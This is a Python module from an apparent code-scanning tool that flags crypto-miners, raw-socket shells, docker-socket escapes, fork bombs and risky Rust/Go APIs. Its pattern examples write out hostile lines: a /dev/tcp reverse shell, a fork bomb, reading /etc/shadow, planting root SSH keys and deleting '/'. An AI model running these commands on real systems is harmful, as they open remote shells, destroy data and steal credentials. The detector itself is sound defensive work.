"""Signs that mean the same in every language, read in the raw text (and in decoded payloads): a
mining pool's URL, /dev/tcp, the docker socket. Also the only reading Rust and Go get: their
process, network and file-deletion APIs, found by name.

These are a net under the parsers, not a replacement: each sign is specific enough that a benign
program has no reason to contain it.
"""

from __future__ import annotations

import re

from airlock.models import Risk
from airlock.policy.paths import Place, kind
from airlock.policy.patterns import Findings, Pattern, register

__all__ = ["scan_compiled", "scan_signs"]

_C, _H, _M = Risk.CRITICAL, Risk.HIGH, Risk.MEDIUM

POOL = Pattern(
    "mining.pool",
    _C,
    "names a mining pool (stratum)",
    examples=(("python", "url = 'stratum+tcp://pool.example.com:3333'"),),
    benign=(("python", "protocol = 'tcp'"),),
)
MINER_NAME = Pattern(
    "mining.name",
    _C,
    "names a cryptocurrency miner",
    examples=(
        ("javascript", "require('child_process').spawn('./xmrig', ['-o', 'p:1'])"),
        ("go", 'exec.Command("./xmrig", "--donate-level", "1")'),
    ),
    benign=(("python", "mining = 'data mining report'"),),
)
DEV_TCP_TEXT = Pattern(
    "net.dev-tcp-text",
    _C,
    "mentions /dev/tcp or /dev/udp, a shell's raw socket",
    examples=(("python", "cmd = 'bash -i >& /dev/' + 'tcp/203.0.113.5/4444 0>&1'; cmd2 = '/dev/tcp/x/1'"),),
    benign=(("python", "path = '/dev/null'"),),
)
DOCKER_SOCK = Pattern(
    "escape.docker-socket",
    _C,
    "reaches the container engine's socket",
    examples=(("python", "s.connect('/var/run/docker.sock')"),),
    benign=(("python", "print('docker')"),),
)
FORK_BOMB_TEXT = Pattern(
    "dos.fork-bomb-text",
    _C,
    "contains the classic fork bomb",
    examples=(("python", "os.system(':(){ :|:& };:')"),),
    benign=(("bash", "echo ':)'"),),
)
#: Each sign with the words one of which its text must hold (in lower case): a substring test is
#: ten times cheaper than the regex, and almost no script holds any of them.
SIGNS: tuple[tuple[Pattern, re.Pattern[str], tuple[str, ...]], ...] = (
    (POOL, re.compile(r"stratum\+(tcp|ssl|tls)://", re.I), ("stratum",)),
    (
        MINER_NAME,
        re.compile(r"\b(xmrig|minerd|cpuminer|ccminer|cgminer|ethminer|nbminer|xmr-stak|nanominer)\b", re.I),
        ("xmr", "miner"),
    ),
    (DEV_TCP_TEXT, re.compile(r"/dev/(tcp|udp)/"), ("/dev/",)),
    (DOCKER_SOCK, re.compile(r"docker\.sock\b"), ("docker.sock",)),
    (FORK_BOMB_TEXT, re.compile(r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}"), ("|",)),
)

COMPILED_PROCESS = Pattern(
    "compiled.process",
    _M,
    "starts other programs",
    examples=(("rust", 'std::process::Command::new("ls").status();'), ("go", 'exec.Command("ls").Run()')),
    benign=(("rust", 'println!("command");'),),
)
COMPILED_NET = Pattern(
    "compiled.network",
    _M,
    "uses the network",
    examples=(
        ("rust", 'let s = std::net::TcpStream::connect("203.0.113.5:80");'),
        ("go", 'net.Dial("tcp", "203.0.113.5:80")'),
    ),
    benign=(("go", 'fmt.Println("net")'),),
)
COMPILED_DELETE = Pattern(
    "compiled.delete-tree",
    _H,
    "deletes directory trees",
    examples=(("rust", 'std::fs::remove_dir_all("/etc");'), ("go", 'os.RemoveAll("/")')),
    benign=(("go", 'os.Remove("out.txt")'),),
)
COMPILED_UNSAFE = Pattern(
    "compiled.unsafe",
    _M,
    "uses unchecked memory or raw system calls",
    examples=(("rust", "unsafe { libc::setuid(0); }"), ("go", "syscall.Setuid(0)")),
    benign=(("rust", "let safe = 1;"),),
)
COMPILED_SENSITIVE = Pattern(
    "compiled.sensitive-path",
    _H,
    "names a credential, device or system start-up file",
    examples=(("go", 'os.ReadFile("/etc/shadow")'), ("rust", 'std::fs::write("/root/.ssh/authorized_keys", k)')),
    benign=(("go", 'os.ReadFile("data.csv")'),),
)
_SENSITIVE_PLACES = (Place.ROOT, Place.CREDENTIAL, Place.PRIVILEGE, Place.PERSISTENCE, Place.DEVICE)
COMPILED: tuple[tuple[Pattern, re.Pattern[str]], ...] = (
    (COMPILED_PROCESS, re.compile(r"process::Command|Command::new|\bexec\.Command|syscall\.Exec|os\.StartProcess")),
    (
        COMPILED_NET,
        re.compile(r"std::net::|TcpStream|UdpSocket|\bnet\.(Dial|Listen)|http\.(Get|Post|NewRequest)|reqwest::"),
    ),
    (COMPILED_DELETE, re.compile(r"remove_dir_all|os\.RemoveAll")),
    (COMPILED_UNSAFE, re.compile(r"\bunsafe\s*\{|\blibc::|\bsyscall\.|\bunsafe\.Pointer")),
)
register(*(sign[0] for sign in SIGNS), *(pattern for pattern, _ in COMPILED), COMPILED_SENSITIVE)


def scan_signs(text: str, findings: Findings) -> None:
    """The signs in ``text``, each reported once at its first line."""
    lowered = text.lower()
    for pattern, regex, needles in SIGNS:
        if any(needle in lowered for needle in needles) and (match := regex.search(text)):
            findings.add(pattern, text.count("\n", 0, match.start()) + 1, match.group(0))


def scan_compiled(text: str, findings: Findings) -> None:
    """Rust and Go: what they reach for, by the names of the APIs (there is no parser for them here)."""
    for pattern, regex in COMPILED:
        if match := regex.search(text):
            findings.add(pattern, text.count("\n", 0, match.start()) + 1, match.group(0))
    for literal in re.findall(r'"((?:/|~)[^"\n]{0,200})"', text):
        if kind(literal) in _SENSITIVE_PLACES:
            findings.add(COMPILED_SENSITIVE, None, literal)
